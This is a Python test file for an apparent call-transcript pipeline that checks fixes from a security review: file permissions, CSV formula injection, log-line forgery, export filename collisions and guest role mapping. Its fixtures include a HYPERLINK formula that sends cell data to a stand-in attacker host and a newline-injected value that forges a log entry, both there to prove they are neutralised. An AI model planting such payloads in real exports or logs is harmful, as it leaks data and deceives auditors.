"""Three findings of the security review (issue 17, "the lows"), each reproduced and fixed
at its cause: what callstream writes is readable by its own user only, a CSV export
cannot carry a formula into a spreadsheet, and a text log line cannot be forged."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import stat

from models.events import CallEnded, CallStarted, ParticipantJoined, Sentiment, TranscriptFinal
from models.settings import load_settings
from pipeline.cli.log_setup import OneLineFormatter
from pipeline.compliance.export import export_lines
from pipeline.compliance.manifest import manifest_path, write_export

from .test_export_formats import build_store

CALL = "private-call"
CUST = "4:+15550100"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1 555 0100 is my number",
    "-2+3 that's what I was told",
    "@SUM(1,1)",
)


def _mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def _events() -> list:
    finals = [
        TranscriptFinal(
            callId=CALL,
            participant=CUST,
            role="customer",
            utteranceId=f"u{i}",
            startMs=i * 1000,
            endMs=i * 1000 + 900,
            text=text,
            language="en-US",
            confidence=0.9,
            source="acs",
        )  # fmt: skip
        for i, text in enumerate(FORMULAS, start=1)
    ]
    mood = Sentiment(
        callId=CALL, participant=CUST, utteranceId="u1", label="negative", score=-0.5,
        rollingScore=-0.5,
    )  # fmt: skip
    return [
        CallStarted(callId=CALL, mode="unmixed", sampleRate=16000),
        ParticipantJoined(callId=CALL, participant=CUST, role="customer"),
        *finals,
        mood,
        CallEnded(callId=CALL, reason="hangup"),
    ]


def test_the_store_and_exports_are_owner_only(tmp_path) -> None:
    data_dir = tmp_path / "callstream-data"
    store = build_store(data_dir / "callstream.db", _events(), CALL)
    try:
        assert _mode(data_dir) == 0o700
        for name in ("callstream.db", "callstream.db-wal", "callstream.db-shm"):
            assert _mode(data_dir / name) == 0o600, name
        out = tmp_path / "export.csv"
        out.write_text("an older file, world-readable\n")
        os.chmod(out, 0o644)
        write_export(store, CALL, "csv", out, export_lines(store, CALL, "csv"))
        assert _mode(out) == 0o600 and _mode(manifest_path(out)) == 0o600
    finally:
        store.close()


def test_a_store_path_in_a_folder_the_user_made_leaves_the_folder_alone(tmp_path) -> None:
    folder = tmp_path / "shared"
    folder.mkdir(mode=0o755)
    os.chmod(folder, 0o755)
    store = build_store(folder / "events.db", _events(), CALL)
    store.close()
    assert _mode(folder) == 0o755 and _mode(folder / "events.db") == 0o600


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_text(tmp_path) -> None:
    store = build_store(tmp_path / "db", _events(), CALL)
    try:
        rows = list(
            csv.DictReader(io.StringIO(b"".join(export_lines(store, CALL, "csv")).decode()))
        )
    finally:
        store.close()
    texts = [r["text"] for r in rows]
    assert texts == ["'" + t for t in FORMULAS]  # shown as text, and nothing else changed
    for r in rows:
        for column, cell in r.items():
            if column != "sentiment_score":
                assert not cell.startswith(("=", "+", "-", "@")), (column, cell)
    # A number stays a number: the negative sentiment score is not made text.
    assert rows[0]["sentiment_score"] == "-0.5"


def test_a_newline_in_a_logged_value_cannot_forge_a_log_line() -> None:
    forged = "c1\n2026-12-07 10:00:00,000 ERROR callstream: admin token leaked"
    record = logging.LogRecord(
        "pipeline.ingest.media", logging.WARNING, __file__, 1,
        "media connection for call %s refused", (forged,), None,
    )  # fmt: skip
    line = OneLineFormatter("%(asctime)s %(levelname)s %(name)s: %(message)s").format(record)
    assert "\n" not in line and "\r" not in line
    assert "c1\\n2026-12-07" in line  # escaped, still readable
    # A traceback still gets its own lines (DEBUG), only the message is one line.
    try:
        raise ValueError("boom")
    except ValueError:
        import sys

        record.exc_info = sys.exc_info()
    assert OneLineFormatter().format(record).count("\n") >= 2


def test_a_bulk_export_never_writes_two_calls_to_one_file(tmp_path, capsys) -> None:
    """Call ids that a file name cannot tell apart ("a/b" and "a_b", "ABC" and "abc" on a
    case-insensitive disk, two long ids with one prefix) each get a file of their own."""
    from pipeline.cli import commands

    long_a, long_b = "x" * 210 + "a", "x" * 210 + "b"
    ids = ["a/b", "a_b", "ABC", "abc", long_a, long_b, "plain-id.1"]
    data_dir = tmp_path / "data"
    for call_id in ids:
        build_store(data_dir / "callstream.db", _events(), call_id).close()
    out = tmp_path / "out"
    code = commands.main(
        ["export", "--format", "jsonl", "--since", "2024-01-01T00:00:00Z", "--out", str(out),
         "--data-dir", str(data_dir)]
    )  # fmt: skip
    assert code == 0, capsys.readouterr().err
    exports = sorted(p for p in out.iterdir() if p.suffix == ".jsonl")
    assert len({p.name.casefold() for p in exports}) == len(ids)
    # Each file holds its own call, and a plain id is still its own name.
    owners = {json.loads(p.read_text().splitlines()[0])["callId"] for p in exports}
    assert owners == set(ids) and (out / "plain-id.1.jsonl").exists()


def test_an_anonymous_teams_guest_is_a_customer_not_staff() -> None:
    """A Teams visitor (`8:teamsvisitor:`) is not staff. Counted as an agent, their card
    digits went to a cloud recognizer during a payment window, which withholds the audio of
    every participant but agents (test_payment_guard shows the withholding)."""
    from pipeline.ingest.participants import RoleMap

    settings = load_settings(environ={}, overrides={})
    roles = RoleMap(settings.agent_prefixes, settings.customer_prefixes)
    assert roles.role("8:teamsvisitor:6f1c2a") == "customer"
    assert roles.role("8:orgid:9d2f-agent") == "agent"
    assert roles.role("4:+15550100") == "customer"
